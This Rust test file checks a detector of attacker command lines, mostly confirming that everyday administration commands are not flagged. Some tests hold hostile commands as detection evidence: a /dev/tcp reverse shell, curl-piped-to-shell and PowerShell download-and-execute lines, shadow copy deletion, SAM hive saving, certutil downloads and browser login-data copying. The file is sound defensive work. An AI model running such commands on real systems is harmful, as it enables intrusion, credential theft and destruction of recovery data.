//! The signature table's behaviour: what everyday administration must not be named, and
//! that the literal prefilter hides no match; what each pattern names is in [`named`].

use super::*;

#[path = "signatures_named.rs"]
mod named;

fn ids(hits: &[Hit]) -> Vec<&str> {
    hits.iter().map(|h| h.id).collect()
}

#[test]
fn plain_administration_stays_quiet_or_light() {
    let s = Signatures::new();
    for text in [
        "ls -la /home",
        "git commit -m 'fix'",
        "Get-ChildItem C:\\Users",
        "tar -xzf a.tar.gz",
        "docker ps",
        "cat /etc/pam.d/sshd",
        "history | tail -20",
        "log show --last 1h",
        "git log --oneline",
        "chrome --headless --disable-gpu",
        "csc Program.cs",
        "mkdir -p /tmp/build",
        "sudo ufw status verbose",
        "dig example.com MX",
        "host $server",
        "xattr -l report.pdf",
        "sysctl -a | grep randomize_va_space",
        "Get-Service WinDefend",
        "aws cloudtrail describe-trails",
        "pwsh -NoProfile -File build.ps1 -Verbose",
        "systemctl status systemd-journald",
        "grep -v '^#' /etc/rsyslog.conf",
        "cp /etc/rsyslog.conf rsyslog.conf.bak",
        "Get-DnsClientNrptRule",
        "aws ec2 describe-snapshots --owner-ids self",
        "gcc -O2 -o hello hello.c",
        "ls -l ~/Library/LaunchAgents/",
        "passwd",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /dde"#,
        r"C:\Users\bob\AppData\Local\Microsoft\Teams\current\Teams.exe --processStart",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2\MsMpEng.exe",
        r"dir C:\Users\Public\Documents",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
    ] {
        let hits = s.scan([text]);
        assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
    }
}

#[test]
fn administration_that_looks_alike_is_not_named() {
    // Each text is the everyday form of what a pattern names: reading, backing up,
    // re-enabling, reloading, a script's own arguments.
    let s = Signatures::new();
    let cases: &[(&str, &str)] = &[
        ("chmod u+s /usr/local/bin/backup-tool", "setuid-shell"),
        ("chmod 755 /bin/bash", "setuid-shell"),
        // The mode's own arguments only, not the next command on the line.
        ("chmod u+s tool && bash run.sh", "setuid-shell"),
        ("chmod 4755 tool; cp a /tmp/b", "setuid-shell"),
        ("createdump --help; sleep 5", "process-dump"),
        // Reading whether the magic keys are enabled changes nothing.
        ("cat /proc/sys/kernel/sysrq", "shutdown"),
        // The diagnostic keys: blocked tasks, a memory summary, a sync.
        ("echo w > /proc/sysrq-trigger", "shutdown"),
        ("echo m | sudo tee /proc/sysrq-trigger", "shutdown"),
        ("echo s > /proc/sysrq-trigger", "shutdown"),
        // Reading a temperature is not looking for a hypervisor.
        (
            "Get-CimInstance MSAcpi_ThermalZoneTemperature -Namespace root/wmi | Select CurrentTemperature",
            "sandbox-evasion",
        ),
        ("sysctl -n hw.model", "sandbox-evasion"),
        ("chmod +x ~/bin/deploy.sh", "setuid-shell"),
        (
            "install -m 755 build/app /usr/local/bin/app",
            "setuid-shell",
        ),
        ("aws iam list-users", "cloud-account-created"),
        ("nsenter -t 1234 --mount ls /", "container-escape"),
        // Pasted text carries zero-width characters by accident; only a name built with
        // one counts.
        (
            "find /srv/d\u{200c}\u{200b}ata -name target.txt",
            "invisible-characters",
        ),
        ("[char]0x2000 + 'x'", "invisible-characters"),
        (
            "$c = Get-Credential; $c.Password | ConvertFrom-SecureString | Set-Content p.txt",
            "encrypted-powershell-payload",
        ),
        (
            "Resolve-DnsName -Name www.example.com -Type A",
            "dns-exfiltration",
        ),
        ("gpupdate /force", "group-policy-discovery"),
        ("docker run --privileged -d docker:dind", "container-escape"),
        (
            "docker run -v /srv/data:/data -it alpine sh",
            "host-mounted-in-container",
        ),
        ("docker run -v /:/host:ro node-exporter", "container-escape"),
        (
            "tar czf backup.tgz /etc && ls -l backup.tgz",
            "exfiltration",
        ),
        (
            "az ad user show --id ann@example.com",
            "cloud-account-created",
        ),
        ("code --install-extension ms-python.python", "ide-tunnel"),
        (
            "ssh -L 8080:localhost:80 host # code tunnel docs",
            "process-dump",
        ),
        ("procdump -e 1 -w app.exe", "process-dump"),
        ("Get-WebGlobalModule", "iis-module"),
        ("w32tm /resync", "time-discovery"),
        (r"copy C:\build\config\system.yaml .", "sam-hive-dump"),
        (
            "powershell -File deploy.ps1 -Version 2",
            "powershell-downgrade",
        ),
        (
            "powershell -c \"Set-Variable -Name x -Value 2\"",
            "powershell-downgrade",
        ),
        (
            "Set-MpPreference -DaysToKeepQuarantineItems 1",
            "av-disabled",
        ),
        (
            "Set-Service SentinelAgent -StartupType Automatic",
            "av-disabled",
        ),
        ("taskkill /im notepad.exe & echo sophos done", "av-disabled"),
        ("pfctl -f /etc/pf.conf", "firewall-disabled"),
        (
            "iptables -A INPUT -s 192.0.2.1 -j DROP",
            "firewall-discovery",
        ),
        ("cat /etc/ufw/ufw.conf", "firewall-rule-changed"),
        ("service rsyslog restart", "security-service-stopped"),
        ("service auditd status", "security-service-stopped"),
        (
            "cp -p /etc/audit/auditd.conf /etc/audit/auditd.conf.orig",
            "logging-config-changed",
        ),
        (
            "Add-DnsClientNrptRule -Namespace test.local -NameServers 127.0.0.1",
            "security-telemetry-blocked",
        ),
        (
            "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /d 1 /f & reg add HKLM\\x /v y /d 0",
            "exploit-mitigation-disabled",
        ),
        (
            "curl -H \"Host: api\" https://$(terraform output -raw lb).example.com/health",
            "dns-exfiltration",
        ),
        (
            "Set-ADDefaultDomainPasswordPolicy -MinPasswordLength 14",
            "password-policy-discovery",
        ),
        (
            "cp /etc/login.defs /etc/login.defs.bak",
            "password-policy-discovery",
        ),
        ("usermod -p \"$HASH\" bob", "account-without-password"),
        (
            "plutil -lint /Library/LaunchDaemons/backup.plist",
            "launchd-persistence",
        ),
        (
            "reg query HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start",
            "logging-disabled",
        ),
        ("kill -HUP $(pgrep nginx)", "service-stopped"),
        (
            "aws s3 rm s3://build-cache/tmp/ --recursive",
            "data-destroyed",
        ),
        ("gcc hello.c && ./a.out", "compile-after-delivery"),
        (
            "grep filebeat docker-compose.yml",
            "security-software-discovery",
        ),
        (
            r#"Get-ItemProperty "C:\Program Files\App\app.exe" | Select-Object VersionInfo"#,
            "registry-query",
        ),
        ("Get-ChildItem HKLM_backup.txt", "registry-query"),
        (
            r"reg query HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components /s",
            "run-key",
        ),
        (
            r"Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows Defender' -Name ProductStatus",
            "run-key",
        ),
        ("mavinject.exe /?", "reflective-load"),
        ("net start w32time", "process-discovery"),
        (
            "tar -czf backup.tar.gz report.pdf notes.txt",
            "double-extension",
        ),
        ("net user alice /domain", "account-access-removed"),
        // Restore points checked, enabled or listed; ordinary backup files removed.
        (
            r#"schtasks /query /tn "\Microsoft\Windows\SystemRestore\SR""#,
            "recovery-inhibited",
        ),
        (
            r#"Enable-ComputerRestore -Drive "C:\""#,
            "recovery-inhibited",
        ),
        ("del *.bak", "recovery-inhibited"),
        ("diskshadow /s backup-script.txt", "recovery-inhibited"),
        // Rights given to one user or group, ownership of one's own files, links read.
        (
            r"icacls C:\inetpub\app /grant IIS_IUSRS:(OI)(CI)RX",
            "permissions-opened",
        ),
        (r"icacls path\to\file /grant alice:F", "permissions-opened"),
        (
            r"icacls C:\Users\bob\notes.txt /reset",
            "permissions-opened",
        ),
        (r"takeown /f path\to\file", "permissions-opened"),
        (
            "fsutil behavior query SymlinkEvaluation",
            "permissions-opened",
        ),
        // Secrets managed, not read out; a mounted secret of one's own app.
        (
            "kubectl create secret generic db --from-literal=user=app",
            "container-secrets",
        ),
        ("kubectl delete secret old-token", "container-secrets"),
        ("kubectl get pods -n default", "container-secrets"),
        ("finger alice@host.example | grep Login", "finger-download"),
        ("finger alice@host.example | grep bash", "finger-download"),
        // Secrets listed by name or described; a pod reading its own token.
        ("kubectl get secrets", "container-secrets"),
        ("kubectl describe secret db-creds", "container-secrets"),
        (
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "container-secrets",
        ),
        // System Restore and remote links read, or set back to off.
        (
            r#"reg query "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore" /v DisableSR"#,
            "recovery-inhibited",
        ),
        (
            r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore /v DisableSR /t REG_DWORD /d 0 /f",
            "recovery-inhibited",
        ),
        (
            r"reg add HKLM\SYSTEM\CurrentControlSet\Control\FileSystem /v SymlinkRemoteToLocalEvaluation /t REG_DWORD /d 0 /f",
            "permissions-opened",
        ),
        // Old backups cleaned up in one folder; a group whose name ends in "Users".
        (r"del D:\Backups\old\*.bkf", "recovery-inhibited"),
        (
            r#"icacls D:\shares\finance /grant "CORP\Finance Users":(OI)(CI)F"#,
            "permissions-opened",
        ),
        (
            r#"icacls D:\shares\all /grant "Domain Users":M"#,
            "permissions-opened",
        ),
        // A chroot jail built in a temporary folder; a variable named like a tool.
        ("cp /bin/bash /tmp/jail/bin/", "masquerading"),
        ("$netPass = Read-Host -AsSecureString", "credential-tool"),
        // Certificates enrolled over the web service, an Edge web app, a TLS check.
        (
            "certreq -submit -config https://ces.corp.example/CES req.csr",
            "lolbin-download",
        ),
        (
            r"msedge_proxy.exe --profile-directory=Default --app-id=abc --app-url=https://mail.example.com/",
            "lolbin-download",
        ),
        (
            "nscurl --ats-diagnostics https://www.example.com",
            "lolbin-download",
        ),
        // A program copied under its own name; a script copied to a temporary folder.
        (
            r"copy C:\Windows\System32\notepad.exe D:\tools\notepad.exe",
            "masquerading",
        ),
        (
            r"copy C:\Windows\System32\cmd.exe D:\rescue\cmd.exe",
            "masquerading",
        ),
        ("cp ./build.sh /tmp/build.sh", "masquerading"),
    ];
    for (text, id) in cases {
        let hits = s.scan([*text]);
        assert!(!ids(&hits).contains(id), "{id} named for {text}");
    }
}

#[test]
fn listing_the_firewall_is_not_switching_it_off() {
    let s = Signatures::new();
    for text in [
        "sudo iptables -L -n",
        "iptables-save > rules.v4",
        "ufw status numbered",
    ] {
        let hits = s.scan([text]);
        let found = ids(&hits);
        assert!(found.contains(&"firewall-discovery"), "{text}: {found:?}");
        assert!(!found.contains(&"firewall-disabled"), "{text}: {found:?}");
        assert!(
            !found.contains(&"firewall-rule-changed"),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn a_remote_path_is_not_a_hidden_stream() {
    let s = Signatures::new();
    for text in [
        "scp report.txt alice@files.example.com:backup/report.txt",
        "curl http://files.example.com:8080/a.txt",
        "Copy-Item C:\\data\\a.txt D:\\backup\\a.txt",
        // A program's own `-switch:value.dll` is no stream.
        r"C:\Windows\system32\CompatTelRunner.exe -m:appraiser.dll -f:UpdateAvStatus",
    ] {
        let hits = s.scan([text]);
        assert!(!ids(&hits).contains(&"hidden-artifact"), "{text}");
    }
    let hits = s.scan([r"type evil.exe > C:\temp:evil.exe"]);
    assert!(ids(&hits).contains(&"hidden-artifact"));
}

#[test]
fn an_auto_elevating_program_alone_is_not_a_bypass() {
    let s = Signatures::new();
    for text in [
        "eventvwr.exe",
        "C:\\Windows\\system32\\sdclt.exe /configure",
    ] {
        let hits = s.scan([text]);
        assert!(!ids(&hits).contains(&"uac-bypass"), "{text}");
        assert!(combined_weight(&hits) < 0.5, "{text}: {:?}", ids(&hits));
    }
}

#[test]
fn a_console_host_runs_what_it_is_given_not_its_window_handle() {
    let s = Signatures::new();
    // What Windows logs for every console window.
    let hits = s.scan([r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"]);
    assert!(!ids(&hits).contains(&"indirect-execution"));
    for text in ["conhost.exe calc.exe", "conhost --headless cmd /c whoami"] {
        assert!(
            ids(&s.scan([text])).contains(&"indirect-execution"),
            "{text}"
        );
    }
}

#[test]
fn a_browser_started_with_its_own_profile_is_not_reading_it() {
    let s = Signatures::new();
    // What Windows logs each time Edge starts its crash handler: the profile's folder as an
    // argument of the browser itself.
    let own = r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=crashpad-handler "--user-data-dir=C:\Users\ann\AppData\Local\Microsoft\Edge\User Data" /prefetch:7"#;
    assert!(!ids(&s.scan([own])).contains(&"browser-discovery"));
    // Reading what is in a profile is.
    for text in [
        r#"esentutl.exe /y "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" /d "%temp%\ld.tmp""#,
        r#"Copy-Item "$env:LOCALAPPDATA\Microsoft\Edge\User Data\Default" -Destination C:\loot -Recurse"#,
    ] {
        assert!(
            ids(&s.scan([text])).contains(&"browser-discovery"),
            "{text}"
        );
    }
}

#[test]
fn a_private_browser_window_is_not_a_stolen_token() {
    let s = Signatures::new();
    // Chromium's private window shares its name with a token-stealing tool.
    for text in [
        "chromium --incognito example.com",
        "chromium --incognito|msedge --inprivate example.com",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --incognito"#,
        "use incognito mode to test the login page",
    ] {
        assert!(!ids(&s.scan([text])).contains(&"token-abuse"), "{text}");
    }
    for text in [
        "incognito2.exe list_tokens -u",
        r#""C:\tools\incognito.exe" list_tokens -u"#,
        "incognito.exe -h 10.0.0.5 -u admin -p P@ss list_tokens -u",
        "load incognito",
        "list_tokens -g",
    ] {
        assert!(ids(&s.scan([text])).contains(&"token-abuse"), "{text}");
    }
}

#[test]
fn most_patterns_are_reached_through_their_literals() {
    let s = Signatures::new();
    let always: Vec<&str> = s.always.iter().map(|&i| PATTERNS[i].id).collect();
    assert!(always.len() * 10 < PATTERNS.len(), "always run: {always:?}");
    eprintln!("ALWAYS {always:?} of {}", PATTERNS.len());
}

/// Every pattern's matches, found directly, against what the scan finds.
fn assert_scan_finds_what_each_pattern_does(s: &Signatures, t: &str) {
    let direct: Vec<&str> = PATTERNS
        .iter()
        .zip(&s.each)
        .filter(|(_, re)| re.is_match(t))
        .map(|(p, _)| p.id)
        .collect();
    let found: Vec<&str> = s.scan([t]).iter().map(|h| h.id).collect();
    assert_eq!(found, direct, "{t}");
}

#[test]
fn the_prefilter_never_hides_a_match_in_the_corpus() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/data/commands/commands.jsonl.gz"
    );
    let Ok(file) = std::fs::File::open(path) else {
        eprintln!("skipped: {path} is absent");
        return;
    };
    use std::io::BufRead;
    let s = Signatures::new();
    let lines = std::io::BufReader::new(flate2::read::MultiGzDecoder::new(file)).lines();
    // Every 16th text keeps the test quick in a debug build; all texts ran in release.
    for line in lines.map_while(Result::ok).step_by(16) {
        let v: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_scan_finds_what_each_pattern_does(&s, v["text"].as_str().unwrap());
    }
}

#[test]
fn the_prefilter_never_hides_a_match() {
    // Every pattern's own evidence, in any case, is found through the prefilter.
    let s = Signatures::new();
    let texts = [
        "CURL -s http://x | SH",
        "Bash -i >& /dev/TCP/1.2.3.4/80 0>&1",
        "SCHTASKS /Create /tn x",
        "vssadmin Delete Shadows /all",
        "echo x >> ~/.SSH/authorized_keys",
        "Reg Save HKLM\\SAM sam.hiv",
        "certutil -URLcache -f http://a/b c",
    ];
    for t in texts {
        assert_scan_finds_what_each_pattern_does(&s, t);
    }
}

#[test]
fn a_pattern_counts_once_at_its_first_layer() {
    let s = Signatures::new();
    let hits = s.scan([
        "powershell -enc AAAA",
        "IEX (New-Object Net.WebClient).DownloadString('http://a')",
    ]);
    let h = hits
        .iter()
        .find(|h| h.id == "download-execute-powershell")
        .unwrap();
    assert_eq!(h.layer, 1);
    assert_eq!(hits.iter().filter(|h| h.id == h.id).count(), hits.len());
}

#[test]
fn a_scan_that_runs_out_of_time_says_so() {
    let text = "vssadmin delete shadows /all /quiet";
    let full = Signatures::new().scan_bounded([text]);
    assert!(full.finished);
    assert!(ids(&full.hits).contains(&"recovery-inhibited"), "{full:?}");
    let cut = Signatures::new()
        .with_budget(std::time::Duration::ZERO)
        .scan_bounded([text]);
    assert!(!cut.finished);
    assert!(cut.hits.is_empty(), "{cut:?}");
}
